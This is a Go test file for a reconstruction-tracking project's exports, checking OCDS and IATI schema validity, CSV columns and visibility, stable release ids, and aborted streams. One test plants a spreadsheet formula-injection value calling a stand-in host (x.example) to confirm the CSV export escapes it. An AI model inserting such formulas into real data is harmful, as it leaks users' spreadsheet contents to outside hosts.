package reconstructionweb_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/parley-project/parley/access"
	"github.com/parley-project/parley/internal/testkit"
	"github.com/parley-project/parley/reconstruction"
	reconstructionweb "github.com/parley-project/parley/reconstruction/web"
)

// ocdsSchema compiles OCDS 1.1.5's release package schema, as published
// (testdata/ocds-1.1.5: the standard's schema at tag 1__1__5), with the
// release schema it refers to loaded from the same directory.
func ocdsSchema(t *testing.T) *jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	for _, name := range []string{"release-package-schema.json", "release-schema.json"} {
		f, err := os.Open(filepath.Join("testdata", "ocds-1.1.5", name))
		if err != nil {
			t.Fatal(err)
		}
		doc, err := jsonschema.UnmarshalJSON(f)
		f.Close()
		if err != nil {
			t.Fatal(err)
		}
		if err := c.AddResource("https://standard.open-contracting.org/schema/1__1__5/"+name, doc); err != nil {
			t.Fatal(err)
		}
	}
	s, err := c.Compile("https://standard.open-contracting.org/schema/1__1__5/release-package-schema.json")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// xmllint returns the path of xmllint, or skips (fails, under
// PARLEY_REQUIRE_XMLLINT=1 as CI sets).
func xmllint(t *testing.T) string {
	t.Helper()
	p, err := exec.LookPath("xmllint")
	if err != nil {
		if os.Getenv("PARLEY_REQUIRE_XMLLINT") == "1" {
			t.Fatal("PARLEY_REQUIRE_XMLLINT=1, but xmllint was not found; install it with: apt-get install libxml2-utils")
		}
		t.Skip("xmllint was not found: install it with `apt-get install libxml2-utils` to validate the IATI export against its schema")
	}
	return p
}

// TestExportsValid: the demo's published project, exported as an OCDS
// release package and as IATI activities, is valid against each
// standard's schema, and holds what the records say; the schemas refuse
// an export made invalid, so that the check can fail.
func TestExportsValid(t *testing.T) {
	d := testkit.NewDemo(t, testkit.DemoOptions{})
	ctx := t.Context()

	var ocds bytes.Buffer
	begun := false
	if err := reconstructionweb.WriteOCDS(ctx, d.Service, &ocds, "https://parley.example/reconstruction/export/ocds.json", func() { begun = true }); err != nil || !begun {
		t.Fatalf("WriteOCDS = %v (begun %v)", err, begun)
	}
	doc, err := jsonschema.UnmarshalJSON(bytes.NewReader(ocds.Bytes()))
	if err != nil {
		t.Fatalf("the OCDS export is not JSON: %v\n%s", err, ocds.String())
	}
	schema := ocdsSchema(t)
	if err := schema.Validate(doc); err != nil {
		t.Fatalf("the OCDS export is not valid: %v\n%s", err, ocds.String())
	}
	for _, want := range []string{`"procurementMethod":"open"`, `"amount":84500000`, `"amount":25350000`, `"name":"Illustrative Grid Equipment Ltd"`, `"dateMet":"2026-06-24T00:00:00Z"`} {
		if !strings.Contains(ocds.String(), want) {
			t.Errorf("the OCDS export lacks %s:\n%s", want, ocds.String())
		}
	}
	broken := strings.Replace(ocds.String(), `"procurementMethod":"open"`, `"procurementMethod":"by lottery"`, 1)
	if doc, _ := jsonschema.UnmarshalJSON(strings.NewReader(broken)); schema.Validate(doc) == nil {
		t.Error("the OCDS schema accepts a procurement method it does not know: the check could not fail")
	}

	lint := xmllint(t)
	var iati bytes.Buffer
	if err := reconstructionweb.WriteIATI(ctx, d.Service, &iati, func() {}); err != nil {
		t.Fatal(err)
	}
	valid := func(body string) (bool, string) {
		file := filepath.Join(t.TempDir(), "iati.xml")
		if err := os.WriteFile(file, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(lint, "--noout", "--nonet", "--schema", filepath.Join("testdata", "iati-2.03", "iati-activities-schema.xsd"), file).CombinedOutput()
		return err == nil, string(out)
	}
	if ok, out := valid(iati.String()); !ok {
		t.Fatalf("the IATI export is not valid: %s\n%s", out, iati.String())
	}
	for _, want := range []string{`<transaction-type code="1">`, `<transaction-type code="4">`, `>25350000</value>`, `<narrative>United States</narrative>`, `code="energy"`} {
		if !strings.Contains(iati.String(), want) {
			t.Errorf("the IATI export lacks %s:\n%s", want, iati.String())
		}
	}
	if ok, _ := valid(strings.Replace(iati.String(), "<activity-status", "<activity-state", 1)); ok {
		t.Error("the IATI schema accepts an element it does not know: the check could not fail")
	}
}

// TestCSVEveryKind: each of reconstruction's collections exports as CSV
// with its fields as columns; a pledge not announced is in its readers'
// CSV only.
func TestCSVEveryKind(t *testing.T) {
	d := testkit.NewDemo(t, testkit.DemoOptions{})
	observer := d.Principal(t, "ae-observer")
	for _, k := range (reconstruction.Domain{}).Kinds() {
		for _, who := range []struct {
			name   string
			caller *access.Principal
		}{{"anonymous", nil}, {"ae-observer", &observer}} {
			var b bytes.Buffer
			if err := reconstructionweb.WriteCSV(t.Context(), d.Service, who.caller, k, &b); err != nil {
				t.Fatalf("%s as %s: %v", k.Collection, who.name, err)
			}
			text := b.String()
			rows, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatalf("%s: not CSV: %v", k.Collection, err)
			}
			if len(rows) < 2 || len(rows[0]) != 6+len(k.Fields) || rows[0][6] != k.Fields[0].Name {
				t.Errorf("%s as %s: %d rows, header %v", k.Collection, who.name, len(rows), rows[0])
				continue
			}
			if k.Name != reconstruction.KindFlow {
				continue
			}
			aed := strings.Contains(text, "1836250000.00")
			if aed != (who.caller != nil) {
				t.Errorf("the pledge not announced in the CSV of %s: %v", who.name, aed)
			}
			var aud map[string]any
			json.Unmarshal([]byte(rows[1][2]), &aud)
			if aud["scope"] == nil {
				t.Errorf("the audience column holds %q", rows[1][2])
			}
		}
	}
}

// A release's id names its content: the same export twice gives the same
// ids, and a payment added gives its tender's release a new id and date.
// A cell a spreadsheet would run is written as text.
func TestExportIdentity(t *testing.T) {
	d := testkit.NewDemo(t, testkit.DemoOptions{})
	ctx := t.Context()
	releases := func() map[string][2]string {
		var b bytes.Buffer
		if err := reconstructionweb.WriteOCDS(ctx, d.Service, &b, "https://parley.example/ocds.json", func() {}); err != nil {
			t.Fatal(err)
		}
		var pkg struct {
			Releases []struct{ OCID, ID, Date string }
		}
		if err := json.Unmarshal(b.Bytes(), &pkg); err != nil {
			t.Fatal(err)
		}
		out := map[string][2]string{}
		for _, r := range pkg.Releases {
			out[r.OCID] = [2]string{r.ID, r.Date}
		}
		return out
	}
	first, again := releases(), releases()
	if len(first) != 1 || fmt.Sprint(first) != fmt.Sprint(again) {
		t.Fatalf("two exports of the same records: %v and %v", first, again)
	}
	project := d.Find(t, "us-mediator", reconstruction.KindProject, "title", "Restoring high-voltage transmission in Zaporizhzhia oblast")
	contract := d.Find(t, "us-mediator", reconstruction.KindContract, "supplier", "Illustrative Grid Equipment Ltd")
	d.MustWrite(t, "us-mediator", reconstruction.KindContract, reconstruction.Contract{ProjectID: project, Title: "Survey", Supplier: `=HYPERLINK("http://x.example/?"&A1)`,
		Status: "active", Currency: "USD", Value: "10", Signed: "2026-05-01"})
	d.MustWrite(t, "us-mediator", reconstruction.KindPayment, reconstruction.Payment{ProjectID: project, ContractID: contract, Amount: "1000", Currency: "USD", Rate: "1", Date: "2026-05-01"})
	after := releases()
	for ocid, was := range first {
		// Dates are to the second, and the payment may fall in the same.
		if now := after[ocid]; now[0] == was[0] || now[1] < was[1] {
			t.Errorf("release %s after a payment: %v, before %v; want a new id, dated no earlier", ocid, now, was)
		}
	}
	k, _ := reconstructionweb.KindOf("project-contracts")
	var b bytes.Buffer
	if err := reconstructionweb.WriteCSV(ctx, d.Service, nil, k, &b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `'=HYPERLINK(`) {
		t.Errorf("a supplier's formula is exported as a formula:\n%s", b.String())
	}
}

// An export that fails after it began aborts the answer, so that the
// reader does not take what it got for the whole file; one that fails
// before answers the error.
func TestStreamCutShort(t *testing.T) {
	boom := errors.New("boom")
	if err := reconstructionweb.Stream(slog.New(slog.DiscardHandler), func(func()) error { return boom }); err != boom {
		t.Errorf("an error before the export began: %v", err)
	}
	defer func() {
		if v := recover(); v != http.ErrAbortHandler {
			t.Errorf("an error after the export began: recovered %v, want http.ErrAbortHandler", v)
		}
	}()
	reconstructionweb.Stream(slog.New(slog.DiscardHandler), func(begin func()) error { begin(); return boom })
}
